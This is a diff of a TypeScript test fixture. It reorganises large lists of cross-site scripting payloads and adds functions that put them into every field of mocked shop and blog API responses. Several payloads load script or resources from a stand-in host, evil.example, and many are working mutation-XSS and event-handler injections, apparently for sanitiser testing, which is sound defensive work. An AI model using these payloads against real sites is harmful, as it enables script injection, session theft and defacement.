@@ -4,78 +4,46 @@
  */
 
 const handlers = [
-  '<img src=x onerror="pwn()"//',
-  '<img/src=x/onerror=pwn()>',
   '<img\nsrc=x\nonerror\n=\npwn()>',
-  '<img src=x onerror=&#x70;&#x77;&#x6e;()>',
-  '<image src=x onerror=pwn()>',
-  '<img src=x style="x:x" onerror=pwn() alt="`>">',
-  '<img src="/icons/icon.svg" onload=pwn()>',
-  '<picture><source srcset=x onerror=pwn()><img srcset="x 1x" src=x onerror=pwn()></picture>',
+  '<img/src=x/onerror=&#x70;&#x77;&#x6e;()>',
+  '<img src=x style="x:x" onerror=pwn() alt="`"//',
   '<video><source onerror=pwn()></video><audio onloadstart=pwn() src=x autoplay loop>',
   '<body onload=pwn() onpageshow=pwn() onresize=pwn() onscroll=pwn()>',
   '<p onfocus=pwn() tabindex=1 autofocus>x</p><a onfocus=pwn() href=# autofocus id=x>x</a>',
-  '<details open ontoggle=pwn()><summary>x</summary></details>',
-  '<marquee loop=1 width=0 onfinish=pwn() onstart=pwn()>x</marquee>',
-  '<style>@keyframes x{}</style><p style="animation:x 1s" onanimationend=pwn()>x</p>',
+  '<details open ontoggle=pwn()><summary>x</summary></details><p title=">" onclick=pwn()>x</p>',
   '<div onbeforematch=pwn() hidden=until-found popover onbeforetoggle=pwn()>x</div>',
-  '<p oncontentvisibilityautostatechange=pwn() style="content-visibility:auto">x</p>',
   '<x-y onfocusin=pwn() tabindex=0 autofocus>x</x-y><slot onslotchange=pwn()>x</slot>',
-  '<p on=pwn() ON=pwn() onx=pwn()>x</p>',
-  '<p title=">" onclick=pwn()>x</p>',
-  '<p "onclick=pwn()">x</p>',
 ];
 
 const scripts = [
   '<ScRiPt>pwn()</sCrIpT>',
-  '<script src=//evil.example/x.js></script>',
-  '<script src="data:text/javascript,pwn()"></script>',
-  '<script type=module>pwn()</script>',
+  '<script src=//evil.example/x.js></script><script src="data:text/javascript,pwn()"></script>',
   '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
-  '<script/x>pwn()</script\t>',
   '<script>/*</script><script>*/pwn()</script>',
-  '<<script>pwn()//<</script>',
   '<scr<script>ipt>pwn()</scr</script>ipt>',
-  '<script><!--\npwn()</script>',
-  '<!--><script>pwn()</script>-->',
-  '<!-- --!><script>pwn()</script>',
-  '<![CDATA[<script>pwn()</script>]]>',
-  '<?xml version="1.0"?><script>pwn()</script>',
+  '<!--><script>pwn()</script>--><!-- --!><script>pwn()</script>',
+  '<![CDATA[<script>pwn()</script>]]><?xml version="1.0"?><script>pwn()</script>',
   '</title></textarea></style></script></noscript></template><script>pwn()</script>',
-  '</p></div></main></body></html><script>pwn()</script>',
-  '"><script>pwn()</script>',
-  "'><script>pwn()</script>",
-  '--></script><script>pwn()</script>',
-  '\\u003cscript\\u003epwn()\\u003c/script\\u003e',
-  '&lt;script&gt;pwn()&lt;/script&gt;',
-  '＜script＞pwn()＜/script＞',
+  "'--></script><script>pwn()</script>",
+  '\\u003cscript\\u003epwn()\\u003c/script\\u003e&lt;script&gt;pwn()&lt;/script&gt;',
   '<\u0000script>pwn()</script>',
   '<script>pwn()',
   '<base href="https://evil.example/"><script src="x.js"></script>',
   '{{constructor.constructor("pwn()")()}}${pwn()}',
-  '\u2028pwn()\u2029',
 ];
 
-export const hostileAddresses = [
+const hostileAddresses = [
   'JaVaScRiPt:pwn()',
-  ' javascript:pwn()',
-  '\u0001javascript:pwn()',
+  '\u0001 javascript:pwn()',
   'java\tscript:pwn()',
-  'java\nscript:pwn()',
   'javascript&colon;pwn()',
-  '&#x6a;&#x61;vascript:pwn()',
   'java&NewLine;script:pwn()',
   'javascript:/*--></title></style></textarea></script><svg/onload=pwn()>',
-  'javascript://%0apwn()',
   'jav\u00adascript:pwn()',
-  'vbscript:pwn()',
   'data:text/html,<script>pwn()</script>',
   'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>',
   'blob:https://evil.example/x',
-  'filesystem:https://evil.example/x',
-  'view-source:javascript:pwn()',
   'intent://x#Intent;scheme=javascript;end',
-  'https://[',
   'http://%',
   '//',
   'https:\\\\evil.example',
@@ -87,24 +55,17 @@ const links = hostileAddresses.map((address) => {
 });
 
 const loaders = [
-  '<p action="javascript:pwn()" background="javascript:pwn()" ping="javascript:pwn()">x</p>',
-  '<p cite="javascript:pwn()">x</p><blockquote cite="javascript:pwn()">x</blockquote>',
-  '<video poster="javascript:pwn()" src="javascript:pwn()"></video>',
-  '<video src="https://evil.example/v.mp4" autoplay loop muted></video>',
+  '<p action="javascript:pwn()" background="javascript:pwn()" cite="javascript:pwn()">x</p>',
+  '<video poster="javascript:pwn()" src="https://evil.example/v.mp4" autoplay loop muted></video>',
   '<video autoplay><source src="data:video/mp4;base64,AA"><track src="https://evil.example/t"></video>',
   '<iframe src="javascript:pwn()"></iframe><iframe src="https://evil.example/"></iframe>',
   '<iframe srcdoc="<script>top.pwn()</script>"></iframe>',
-  '<frameset><frame src="javascript:pwn()"></frameset>',
-  '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
+  '<portal src="https://evil.example/"></portal><frameset><frame src="javascript:pwn()"></frameset>',
   '<object data="javascript:pwn()"></object><embed src="javascript:pwn()"><applet code=x></applet>',
-  '<link rel=stylesheet href="https://evil.example/x.css">',
-  '<link rel=preload as=script href="https://evil.example/x.js"><link rel=modulepreload href=//evil.example/x>',
+  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=modulepreload href=//evil.example/x>',
   '<meta http-equiv=refresh content="0;url=https://evil.example/">',
   '<meta name=referrer content=unsafe-url><img src="https://evil.example/i.png" referrerpolicy=unsafe-url>',
-  '<form action="https://evil.example/"><input name=password type=password autofocus></form>',
   '<form action="javascript:pwn()"><button formaction="javascript:pwn()">x</button></form>',
-  '<input type=image src=x onerror=pwn()><isindex type=image src=x onerror=pwn()>',
-  '<map name=m><area href="javascript:pwn()" shape=default></map><img usemap=#m src=/icons/icon.svg>',
   '<a href="/products" target=_top ping="https://evil.example/p" download>x</a>',
   '<a href="https://evil.example/" target=_blank rel=opener>x</a>',
   '<img src="https://evil.example/i.png" crossorigin=use-credentials attributionsrc="https://evil.example/a">',
@@ -112,21 +73,14 @@ const loaders = [
 
 const foreign = [
   '<svg/onload=pwn()>',
-  '<svg><script href="data:text/javascript,pwn()"/></svg>',
   '<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>',
-  '<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>',
-  '<svg><a><animate attributeName=href values=javascript:pwn() /><text y=9>x</text></a></svg>',
-  '<svg><set attributeName=href to=javascript:pwn()><a>x</a></svg>',
+  '<svg><a><animate onbegin=pwn() attributeName=href values=javascript:pwn() /><text y=9>x</text></a></svg>',
   '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn() />#x"/></svg>',
   '<svg><foreignObject><iframe src="javascript:pwn()"></iframe></foreignObject></svg>',
   '<svg><style>@import "https://evil.example/x.css";</style></svg>',
-  '<svg><title><style><img src=x onerror=pwn()></style></title></svg>',
   '<svg></p><style><a id="</style><img src=x onerror=pwn()>">',
-  '<svg><p><style><!--</style><img src=x onerror=pwn()>--></style></svg>',
-  '<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>',
   '<math href="javascript:pwn()"><mi xlink:href="javascript:pwn()">x</mi></math>',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>',
-  '<math><mtext><img src=x onerror=pwn()></mtext></math>',
 ];
 
 /** Harmless as they are first read; not so when what was written of them is read again. */
@@ -135,23 +89,14 @@ const mutating = [
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn() src>">',
   '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=pwn()>">',
   '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
-  '<noembed><p title="</noembed><img src=x onerror=pwn()>">',
-  '<xmp><p title="</xmp><img src=x onerror=pwn()>">',
   '<plaintext><img src=x onerror=pwn()>',
-  '<listing>&lt;img src=x onerror=pwn()&gt;</listing>',
   '<textarea><p title="</textarea><img src=x onerror=pwn()>">',
-  '<title><p title="</title><img src=x onerror=pwn()>">',
-  '<style><p title="</style><img src=x onerror=pwn()>">',
   '<iframe><p title="</iframe><img src=x onerror=pwn()>">',
-  '<template><template shadowrootmode=open><img src=x onerror=pwn()></template></template>',
   '<div><template shadowrootmode=open><script>pwn()</script></template></div>',
-  '<select><style></select><img src=x onerror=pwn()></style>',
   '<table><tr><form><td><svg><style><b title="</style><img src=x onerror=pwn()>">',
   '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=pwn()>">',
   '<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=pwn()>">',
   '<p is=x-y lang="`><img src=x onerror=pwn()>"><x-y>&lt;img src=x onerror=pwn()&gt;</x-y>',
-  '<img alt="<x" title="/><img src=x onerror=pwn()>" src=/icons/icon.svg>',
-  '<p id=1 id="><img src=x onerror=pwn()>">x</p>',
   `${'<div>'.repeat(600)}<table><caption><svg><title><style><img src=x onerror=pwn()>${'</div>'.repeat(600)}`,
 ];
 
@@ -166,26 +111,18 @@ const misleading = [
   '<label for=search>Tap</label><label>Tap<input></label>',
   '<main>x</main><header role=banner>x</header><footer role=contentinfo>x</footer>',
   '<div role=dialog aria-modal=true aria-label=Log>x</div><div role=alertdialog>Paid</div>',
-  '<p tabindex=9999 accesskey=s inert hidden>x</p>',
-  '<font size=999>x</font><basefont size=7>',
+  '<marquee loop=1>x</marquee><p tabindex=9999 accesskey=s inert hidden>x</p>',
   '<table width=99999 height=99999 border=999 cellpadding=9999><td width=99999 nowrap>x</table>',
   '<img src=/icons/icon.svg width=99999 height=99999 hspace=9999 vspace=9999 border=999>',
-  '<img src=/icons/icon.svg width=1 height=4096>',
-  '<hr width=99999 size=99999><pre width=99999>x</pre><p height=99999>x</p>',
-  `<nobr>${'wide '.repeat(400)}</nobr><p>${'unbroken'.repeat(400)}</p>`,
-  `<table><tr>${'<td>cell</td>'.repeat(60)}</tr></table>`,
+  `<nobr>${'wide '.repeat(400)}</nobr><p>${'unbroken'.repeat(400)}${'\u00a0'.repeat(2000)}x</p>`,
   `<table><tr><td>${'<table><tr><td>'.repeat(20)}unbroken-unbroken-unbroken</table>`,
-  `<p>${'\u00a0'.repeat(2000)}x</p>`,
   `${'<blockquote><ul><li>'.repeat(60)}x`,
-  `<pre>${'x'.repeat(3000)}</pre><code>${'y'.repeat(3000)}</code>`,
   '<td colspan=99999999>x</td><table><td colspan=1000 rowspan=65534>x</table>',
-  '<ol start=99999999999999999999><li value=-99999999>x</ol>',
-  '<video width=9999 height=9999 controls></video><canvas width=9999 height=9999></canvas>',
-  '<textarea rows=9999 cols=9999>x</textarea><select size=999><option>x</select>',
   '<p dir=rtl>\u202e\u2066evol\u2069 Z\u0335\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307</p>',
 ];
 
-export const hostileHtml = [
+/** One post for each hostile text, which stands in every field of it. */
+export const hostilePosts = [
   ...handlers,
   ...scripts,
   ...links,
@@ -193,4 +130,41 @@ export const hostileHtml = [
   ...foreign,
   ...mutating,
   ...misleading,
-];
+].map((html, index) => ({
+  blogId: index + 1,
+  title: html,
+  shortDescription: html,
+  longDescription: `<p>Before</p>${html}<p>After</p>`,
+  blogImageURL: hostileAddresses[index % hostileAddresses.length],
+  dateFrom: html,
+  authorName: html,
+  tags: `a, ${html}`,
+}));
+
+const everywhere =
+  '"><img src=x onerror=pwn()>\'><svg onload=pwn()></title></script><script>pwn()</script>--><style>*{display:none}</style>\u2028{{pwn()}}';
+
+/** What the shop goes by and no shopper reads: changed, it would only be an unknown row. */
+const isKey = (name: string) =>
+  /(?:Id|_id|Prefix|token|role|userEmail|TypeName|statusCode|createdAt)$/i.test(name);
+
+let next = 0;
+
+/** The same answer, with something hostile in every field that reaches the page. */
+export function poisoned(value: unknown, name = ''): unknown {
+  if (Array.isArray(value)) return value.map((row) => poisoned(row, name));
+  if (typeof value === 'object' && value !== null)
+    return Object.fromEntries(
+      Object.entries(value).map(([key, field]) => [key, poisoned(field, key)]),
+    );
+  if (typeof value !== 'string' || isKey(name)) return value;
+  next += 1;
+  if (/url$/i.test(name)) return hostileAddresses[next % hostileAddresses.length];
+  return value + everywhere;
+}
+
+/** What the back end's answer to a call is made into. */
+export function poisonedAnswer(url: string, body: unknown): unknown {
+  if (url.includes('/Blog/GetAll')) return { statusCode: 200, data: hostilePosts };
+  return url.includes('GenerateToken') ? body : poisoned(body);
+}
